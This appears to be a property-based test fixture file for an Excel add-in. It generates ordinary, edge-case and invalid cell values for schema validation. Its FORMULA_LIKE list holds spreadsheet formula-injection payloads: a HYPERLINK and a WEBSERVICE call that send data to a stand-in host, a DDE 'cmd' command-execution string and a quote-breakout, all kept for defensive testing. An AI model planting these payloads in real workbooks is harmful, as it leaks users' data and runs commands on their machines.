/**
 * Every kind of cell Office.js can hand over (`Range.values`: number | string | boolean, "" for empty,
 * error values as their text), and cells that are wrong for a column whatever the workbook holds.
 */
import fc from "fast-check";
import type { RawCell } from "../../src/core/read/raw";
import type { ColumnType } from "../../src/core/schema/types";

export const EXCEL_ERRORS = ["#N/A", "#VALUE!", "#REF!", "#DIV/0!", "#NAME?", "#NUM!", "#NULL!"] as const;

/** Text that a spreadsheet would run if it were written as a value (SPEC §6). */
export const FORMULA_LIKE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=WEBSERVICE("http://evil.example")',
  // Breaks out of a string literal if a formula quotes it without doubling the quotes.
  '")+HYPERLINK("http://evil.example")+("',
] as const;

const LONG_TEXT = "长".repeat(10_000);

/** Any cell a person, a paste or Excel itself can leave. */
export const anyCell: fc.Arbitrary<RawCell> = fc.oneof(
  fc.constantFrom<RawCell>("", " ", "\t", "　", " \n ", "\u00a0"),
  fc.constantFrom<RawCell>(...EXCEL_ERRORS),
  fc.constantFrom<RawCell>(0, -0, 1, -1, 0.5, 1e308, -1e308, 9.99999999999999e307, 5e-324, 2958465, 2958466),
  fc.constantFrom<RawCell>(-46000, 46353, 46353.999999, 46000.5, 123456789),
  fc.constantFrom<RawCell>("NaN", "Infinity", "-Infinity", "1e999", "0x10", "1,2,3", "--5", "1.2.3"),
  fc.boolean(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: -1e6, max: 1e7 }),
  fc.constantFrom<RawCell>(LONG_TEXT, "😀", "王伟👨‍👩‍👧", "مرحبا بالعالم", "\u202eevil\u202c", "שלום"),
  fc.constantFrom<RawCell>("１２００", "ＡＢＣ", "２０２６－１１－２０", "　王伟　", "￥１，２００元"),
  fc.constantFrom<RawCell>(...FORMULA_LIKE),
  fc.string({ unit: "grapheme", maxLength: 12 }),
  fc.string({ unit: "binary", maxLength: 8 }),
);

/** Values people really type, so that lookups, plans and rollups get past the first check. */
const PLAUSIBLE: Readonly<Record<ColumnType, readonly RawCell[]>> = {
  text: ["王伟", "Wang Wei", "E1", "South", "华南", "Acme", "P1", "Y", ""],
  listRef: ["王伟", "Wang Wei", "E1", "South", "华南", "Acme", "C1", "P1", "Widget", "李娜"],
  date: [46330, 46335, 46341, 46345, "2026-11-20", "2026/11/2", "2026年11月9日", 46387],
  time: ["09:30", 0.375, "14:00", "9点30"],
  number: [100, 1200.5, -50, "1,200", 0],
  money: [100, 1200.5, 0, "￥300", 99999],
  count: [1, 0, 3],
  score: [5, 4, 3, 1, 9, 10, 0, "４"],
  yesNo: ["Y", "N", "是", "否", true],
  enum: [
    "Order",
    "订货",
    "Present",
    "出勤",
    "Leave",
    "Sales",
    "销售额",
    "Visits",
    "Holiday",
    "Workday",
    "Dealer",
    "Active",
    "Severe",
    "严重",
    "Open",
    "Closed",
    "Quality",
    "Other",
    "Competitor promotion",
  ],
  period: ["2026", "2026-Q4", "2026-11", "2026-W47", "2026-W48", 2026, "2026-13", "Q4"],
};

export function cellFor(type: ColumnType): fc.Arbitrary<RawCell> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...PLAUSIBLE[type]) },
    { weight: 2, arbitrary: anyCell },
  );
}

/**
 * Cells that SPEC §2 calls wrong for a column of this type in any workbook: they must each get a
 * finding on their own cell. (Lists are not here: whether a name is known depends on the lists.)
 */
export const BAD_FOR: Readonly<Partial<Record<ColumnType, readonly RawCell[]>>> = {
  date: [0, -1, -46000, 2958466, 1e308, true, "2026-02-30", "next Tuesday", "#N/A", "=TODAY()"],
  time: ["25:99", "teatime", false, "#VALUE!"],
  number: ["twelve", true, "1.2.3", "NaN", "Infinity", "#DIV/0!"],
  money: [-1, -0.01, "-5", "abc", false, "1e999", "#REF!", "--5"],
  count: [-1, 1.5, "two", true, "#NAME?"],
  yesNo: ["maybe", 7, "#N/A", "=TRUE"],
  enum: ["zzz-not-a-value", 42, "#N/A", "=A1"],
  text: ["#N/A", "#REF!"],
  listRef: ["#VALUE!"],
  period: ["#N/A"],
};
